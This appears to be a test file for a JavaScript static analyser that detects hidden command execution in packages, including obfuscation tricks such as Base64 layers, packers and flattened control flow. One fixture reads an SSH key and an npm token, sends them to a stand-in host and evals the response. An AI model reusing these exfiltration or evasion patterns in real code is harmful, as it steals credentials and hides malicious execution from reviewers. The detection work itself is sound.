import assert from 'node:assert/strict';
import { test } from 'node:test';
import obfuscator from 'javascript-obfuscator';
import { Budget } from '../../kit/budget.ts';
import { unitOf } from '../../model/reader.ts';
import type { Call, SourceUnit } from '../../model/source.ts';
import { Interpreter } from '../flow/interpreter.ts';
import { Scope } from '../flow/values.ts';
import { markJavaScript } from './marks.ts';
import { prepareJavaScript } from './modules.ts';
import { parseJavaScript } from './parse.ts';
import { JAVASCRIPT } from './profile.ts';

/** Everything a text does, layers included. */
function read(text: string): { calls: Call[]; units: SourceUnit[] } {
  const unit = unitOf({ path: 'index.js', text, language: 'javascript', stage: 'import', layers: [] });
  const units = [unit];
  const surroundings = { load: () => undefined, inner: () => undefined, shipped: (path: string) => (path === 'payload.json' ? { path, text: '{"script":"require(\'child_process\').exec(\'echo hi\')"}' } : undefined), added: (added: SourceUnit) => void units.push(added) };
  const interpreter = new Interpreter(JAVASCRIPT, new Budget(), surroundings, unit);
  const module = parseJavaScript(text);
  markJavaScript(unit, module);
  const scope = new Scope('module');
  prepareJavaScript(scope, unit);
  interpreter.runModule(module, unit, 'import', scope);
  interpreter.finish();
  return { calls: units.flatMap(({ calls }) => calls), units };
}

/** The path that `unlinkSync` is called with: what an expression folds to. */
function folded(expression: string): string | undefined {
  const call = read(`require('fs').unlinkSync(${expression});`).calls.find(({ name }) => name === 'fs.unlinkSync');
  return call?.roles.path?.exact ? call.roles.path.text : undefined;
}

test('a list that is pushed onto itself grows once', () => {
  assert.equal(folded("((a) => { a.push.apply(a, a); return a.join('') })(['x', 'y'])"), 'xyxy');
});

test('what is cut out of an unknown text comes from the text, not from the places', () => {
  const origins = (text: string): string[] => read(text).calls.find(({ name }) => name.startsWith('eval'))?.roles.code?.origins.map(({ source }) => source) ?? [];
  const decoded = "const E = atob(require('fs').readFileSync('x'));";
  assert.deepEqual(origins(`${decoded} function parse(text) { return eval(text.slice(E.start(), E.end())); } module.exports = parse;`), []);
  assert.deepEqual(origins(`${decoded} function parse(text) { return eval(text.slice(E.start(), E.end())); } module.exports = (map) => parse(map.get('a').b.code);`), []);
  assert.ok(origins(`${decoded} function parse(text) { return eval(E.latin1().slice(text)); } module.exports = parse;`).includes('decoded'));
  assert.ok(origins(`${decoded} function parse() { return eval('0123456789abcdef'.substr(E.at(0), 1)); } module.exports = parse;`).includes('decoded'));
});

const FOLDED: readonly (readonly [expression: string, text: string])[] = [
  ["'a' + 'b' + 1 + true + null", 'ab1truenull'],
  ['`x${1 + 2}y${[1, [2, 3]]}`', 'x3y1,2,3'],
  ["['c', 'b', 'a'].reverse().join('')", 'abc'],
  ["'cba'.split('').reverse().join('')", 'abc'],
  ['String.fromCharCode(97, 98, 99)', 'abc'],
  ['String.fromCharCode(...[97, 98].map((c) => c + 1))', 'bc'],
  ["atob('YWJj')", 'abc'],
  ["Buffer.from('616263', 'hex').toString()", 'abc'],
  ["Buffer.from('YWJj', 'base64').toString('utf8')", 'abc'],
  ["Buffer.from([97, 98]).toString() + new TextDecoder().decode(new Uint8Array([99]))", 'abc'],
  ["decodeURIComponent('%61%62') + unescape('%63')", 'abc'],
  ["'axbxc'.replace(/x/g, '')", 'abc'],
  ["'1-2'.replace(/\\d/g, (d) => String.fromCharCode(96 + Number(d)))", 'a-b'],
  ["JSON.parse('{\"a\":[\"b\"]}').a[0]", 'b'],
  ["(() => { let s = ''; for (let i = 0; i < 3; i++) s += String.fromCharCode('bcd'.charCodeAt(i) - 1); return s; })()", 'abc'],
  ["(() => { const b = Buffer.from('0b0a09', 'hex'); for (let i = 0; i < b.length; i++) b[i] ^= 0x6a; return b.toString(); })()", 'a`c'],
  ["[..." + "'abc'" + "].map((c, i) => c + i).filter((c) => c !== 'b1').join('')", 'a0c2'],
  ["[1, 2, 3].reduce((sum, n) => sum + n, '')", '123'],
  ["((a, { b }, [c = 'z'], ...d) => a + b + c + d)('1', { b: 2 }, [], 4, 5)", '12z4,5'],
  ["parseInt('ff', 16).toString(2) + (255 >>> 4) + (~~7.9)", '11111111157'],
  ["(function () { return this.x + arguments[0]; }).call({ x: 'a' }, 'b')", 'ab'],
  ["(function (a, b) { return a + b; }).bind(null, 'a')('b')", 'ab'],
  ["new (class { #a = 'p'; get q() { return this.#a; } static r() { return 's'; } })().q", 'p'],
  ["new Map([['k', 'v']]).get('k') + [...new Set(['a', 'a', 'b'])].join('')", 'vab'],
  ["(() => { function F() {} F.prototype.g = function () { return this.h; }; const f = new F(); f.h = 'i'; return f.g(); })()", 'i'],
  ["(() => { try { throw new Error('m'); } catch (e) { return e.message; } })()", 'm'],
  ["(() => { l: for (const a of 'xy') for (const b of 'pq') { if (b === 'q') break l; return a + b; } })()", 'xp'],
  ["(() => { const e = {}; Object.defineProperty(e, 'a', { get: () => later }); const later = 'w'; return e.a; })()", 'w'],
  ["(() => { let a = 1; { let a = 2; } if (a) { let a = 3; } return a; })()", '1'],
  ["require('path').join('a', '..', 'b', 'c')", 'b/c'],
  ["require('zlib').inflateSync(Buffer.from('eJxLTEoGAAJNASc=', 'base64')).toString()", 'abc'],
  ["(![] + [])[+!+[]] + ([][[]] + [])[+!+[]] + (+[![]] + [])[+[]]", 'anN'],
  ["([]['flat'] + [])[3] + []['flat']['constructor']['name']", 'cFunction'],
  ["[]['flat']['constructor']('return \"abc\"')()", 'abc'],
  ["(211)['toString'](31)[1] + ('')['fontcolor']()[12]", 'p"'],
  ["(2)[2] + '' + (![])[0]", 'undefinedundefined'],
  ["RegExp('/') + '' + RegExp()", '/\\///(?:)/'],
  ["'' + [1] + [] + [2] + [3] + [4] + [5] + [6] + [7] + [8] + [void 0] + [9, 0]", '123456789,0'],
];

for (const [expression, text] of FOLDED) test(`folds ${expression}`, () => assert.equal(folded(expression), text));

const REFUSED = ['Array(1.5)', 'new Uint32Array(1.5)', 'new Uint16Array(NaN)', 'Array.from({ length: 2.5 })', "'a'.repeat(-1)", '(1).toString(99)', 'String.fromCodePoint(-1)', "'a'.normalize('x')", 'Buffer.alloc(-1)'];

for (const expression of REFUSED) {
  test(`${expression} stops no reading`, () => {
    const { calls, units } = read(`try { ${expression}; } catch {} require('fs').unlinkSync('after');`);
    assert.ok(calls.some(({ name }) => name === 'fs.unlinkSync'));
    assert.deepEqual(units[0]?.gaps, []);
  });
}

test('a letter out of a date is read, and no date is guessed', () => {
  const commands = read("eval('require(\"child_process\").exec(\"pu' + (NaN + Function('return Date')()())[30] + '\")')").calls.flatMap(({ roles }) => roles.command?.text ?? []);
  assert.ok(commands.includes('puT'), commands.join());
  const deleted = read("if (Date().includes('2026')) require('fs').unlinkSync('a'); else require('fs').unlinkSync('b');").calls.flatMap(({ roles }) => roles.path?.text ?? []);
  assert.deepEqual(deleted, ['a', 'b']);
});

const HIDDEN: readonly (readonly [how: string, text: string])[] = [
  ['computed members', "const m = 'child_' + 'process'; const r = require; r(m)['ex' + 'ec']('echo hi');"],
  ['destructuring', "const { exec: e } = require('node:child_process'); e('echo hi');"],
  ['imports', "import cp, { exec as e } from 'child_process'; e('echo hi');"],
  ['a dynamic import', "import('child_process').then((m) => m.exec('echo hi'));"],
  ['the global object', "globalThis['r'] = require; global.r('child_process').exec('echo hi');"],
  ['the module class', "module.constructor._load('child_process').exec('echo hi');"],
  ['the main module', "process.mainModule.require('child_process').exec('echo hi');"],
  ['createRequire', "import { createRequire } from 'module'; createRequire(import.meta.url)('child_process').exec('echo hi');"],
  ['Reflect', "Reflect.apply(require('child_process').exec, null, ['echo hi']);"],
  ['call and bind', "require('child_process').exec.bind(null, 'echo hi')();"],
  ['the Function constructor', "(() => {}).constructor('return require')()('child_process').exec('echo hi');"],
  ['a Base64 layer', `eval(Buffer.from('${Buffer.from("require('child_process').exec('echo hi')").toString('base64')}', 'base64').toString());`],
  ['layers in layers', nested(12)],
  ['a data address', `import('data:text/javascript;base64,${Buffer.from("require('child_process').exec('echo hi')").toString('base64')}');`],
  ['the p,a,c,k,e,d packer', "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0(\"1\").2(\"3 4\")',5,5,'require|child_process|exec|echo|hi'.split('|'),0,{}))"],
  ['a flattened function', "var o = '2|0|1'.split('|'), i = 0, m, c; while (!![]) { switch (o[i++]) { case '0': c = m.exec; continue; case '1': c('echo hi'); continue; case '2': m = require('child_process'); continue; } break; }"],
  ['a file shipped with it', "eval(JSON.parse(require('fs').readFileSync('payload.json')).script);"],
  ['a function made of text that unpacks itself', "const f = Function('', 'var out = []; for (var i = 0; i < arguments[0].length; i++) out.unshift(arguments[0][i]); return out.join(``)'); eval(f(')`ih ohce`(cexe.)`ssecorp_dlihc`(eriuqer'));"],
  ['a promise', "new Promise((done) => done(require('child_process'))).then(({ exec }) => exec('echo hi'));"],
];

function nested(layers: number): string {
  let text = "require('child_process').exec('echo hi')";
  for (let i = 0; i < layers; i++) text = `eval(atob('${Buffer.from(text).toString('base64')}'))`;
  return text;
}

for (const [how, text] of HIDDEN) {
  test(`sees a command through ${how}`, () => {
    const call = read(text).calls.find(({ name }) => name === 'child_process.exec');
    assert.equal(call?.roles.command?.text, 'echo hi');
    assert.equal(call?.stage, 'import');
  });
}

test('what is fetched, read and asked flows into what is sent and evaluated', () => {
  const { calls } = read(`
    const https = require('https'), os = require('os'), fs = require('fs'), path = require('path');
    const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
    const request = https.request({ hostname: 'host.example', path: '/in', method: 'POST' }, (res) => {
      let body = '';
      res.on('data', (chunk) => { body += chunk; });
      res.on('end', () => eval(body));
    });
    request.write(JSON.stringify({ key, host: os.hostname(), token: process.env.NPM_TOKEN }));
    request.end();`);
  const sources = (name: string, role: 'data' | 'code'): string[] => {
    const values = calls.filter((call) => call.name === name).flatMap((call) => call.roles[role]?.origins ?? []);
    return [...new Set(values.map(({ source }) => source))].sort();
  };
  assert.equal(calls.find(({ name }) => name === 'https.request')?.roles.address?.text, 'https://host.example/in');
  assert.deepEqual(sources('https.request().write', 'data'), ['environment', 'file', 'identity']);
  assert.deepEqual(sources('eval (code)', 'code'), ['network']);
  assert.equal(calls.find(({ name }) => name === 'fs.readFileSync')?.roles.path?.text, '~/.ssh/id_rsa');
});

test('a variable of the environment that may be unset decides nothing', () => {
  const { calls } = read("if (process.env.CI) process.exit(0); else require('fs').unlinkSync('x');");
  assert.deepEqual(calls.filter(({ stage }) => stage === 'import').map(({ name }) => name), ['process.env.*', 'process.exit', 'fs.unlinkSync']);
});

const STARTED = [
  'if (require.main === module) go();', 'require.main == module && go();', 'if (!module.parent) go();', 'if (module.parent === null) go();', 'if (process.mainModule === module) go();', 'if (import.meta.main) go();',
  "import { fileURLToPath } from 'url'; if (process.argv[1] === fileURLToPath(import.meta.url)) go();", "import { pathToFileURL } from 'url'; if (import.meta.url === pathToFileURL(process.argv[1]).href) go();",
  'if (import.meta.url === `file://${process.argv[1]}`) go();', 'if (__filename === process.argv[1]) go();',
];
const LOADED = ['if (require.main !== module) go();', 'if (module.parent) go();', "if (process.argv[2] === 'go') go();", "if (require.main === module) go(); else require('child_process').fork(__filename);", 'if (require.main) go();', 'if (require.main.filename !== __filename) go();'];

function stagesOfGo(text: string): string[] {
  const { calls } = read(`${text} function go() { process.kill(1); }`);
  return calls.filter(({ name }) => name === 'process.kill').map(({ stage }) => stage);
}

for (const text of STARTED) test(`a module that is loaded does not run what stands behind: ${text}`, () => assert.deepEqual(stagesOfGo(text), ['run']));
for (const text of LOADED) test(`a module that is loaded may run what stands behind: ${text}`, () => assert.ok(stagesOfGo(text).includes('import'), stagesOfGo(text).join()));

const PAYLOAD = `const https = require('https'), os = require('os'), cp = require('child_process');
function collect() { return JSON.stringify({ host: os.hostname(), user: process.env.USER }); }
const request = https.request({ hostname: 'host.example', path: '/collect', method: 'POST' });
request.write(collect());
cp.exec('echo hi');`;

/** Which names were called with what, apart from decoders. */
function deeds(text: string): Set<string> {
  const told = read(text).calls.filter(({ does }) => !does.includes('decode') && !does.includes('code.evaluate') && !does.includes('output'));
  return new Set(told.map(({ name, roles }) => [name, ...Object.values(roles).map(({ text: known }) => known ?? '?')].join(' ')));
}

for (const preset of ['low-obfuscation', 'medium-obfuscation', 'high-obfuscation'] as const) {
  test(`reads the obfuscator's ${preset} as it reads the plain text`, { timeout: 120_000 }, () => {
    const text = obfuscator.obfuscate(PAYLOAD, { optionsPreset: preset, seed: 2 }).getObfuscatedCode();
    const found = deeds(text);
    for (const deed of deeds(PAYLOAD)) assert.ok(found.has(deed), deed);
    assert.ok(read(text).units[0]?.marks.some(({ kind }) => kind === 'obfuscated-names'));
  });
}

for (const stringArrayEncoding of [[], ['base64' as const], ['rc4' as const], ['none' as const, 'base64' as const, 'rc4' as const]]) {
  test(`turns a string array (${stringArrayEncoding.join() || 'plain'}) back wherever it was turned to`, { timeout: 60_000 }, () => {
    for (let seed = 1; seed <= 8; seed++) {
      const text = obfuscator.obfuscate("require('child_process').exec('echo hi');", { stringArrayThreshold: 1, stringArrayEncoding, seed }).getObfuscatedCode();
      assert.ok(deeds(text).has('child_process.exec echo hi'), `seed ${seed}`);
    }
  });
}

test('minified code is not taken for obfuscated', () => {
  const text = "!function(e,t){\"object\"==typeof exports?t(exports):t(e.x={})}(this,function(e){\"use strict\";var t=Object.assign;function n(e){return e?r(e,t):void 0}function r(e,n){for(var r in n)e[r]=n[r];return e}e.a=n,e.b=r});";
  assert.deepEqual(read(text).units[0]?.marks, []);
});

test('a module name put together at run time is marked', () => {
  const marks = (text: string): string[] => read(text).units.flatMap((unit) => unit.marks.map(({ kind, detail }) => `${kind} ${detail}`));
  assert.deepEqual(marks("require('child_' + 'process')"), ['hidden-name child_process']);
  assert.deepEqual(marks("require('child_process')"), []);
  assert.deepEqual(marks("require('./lo' + 'cal')"), []);
});

test('functions that call each other do not multiply', { timeout: 20_000 }, () => {
  const functions = Array.from({ length: 60 }, (_, i) => `function f${i}() { f${(i + 1) % 60}(); f${(i + 2) % 60}(); f${(i + 3) % 60}(x); }`);
  assert.deepEqual(read(functions.join('\n')).units[0]?.gaps, []);
});

test('a loop without an end, and a pattern that backtracks without end, are left', { timeout: 20_000 }, () => {
  assert.ok(read("while (true) { q.push(1); if (x) break; } require('fs').unlinkSync('after');").calls.some(({ name }) => name === 'fs.unlinkSync'));
  assert.ok(read("for (;;) {} require('fs').unlinkSync('after');").calls.some(({ name }) => name === 'fs.unlinkSync'));
  assert.equal(folded("/^(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab')"), undefined);
});

test('the body of a function made of text is walked like any other', () => {
  const { calls } = read("new Function('x', 'return function () { if (x.y) { x(); process.exit(); } require(\\\"fs\\\").unlinkSync(\\\"a\\\"); }')(fetch('https://a.invalid'))();");
  assert.ok(calls.some(({ name }) => name === 'fs.unlinkSync'));
});
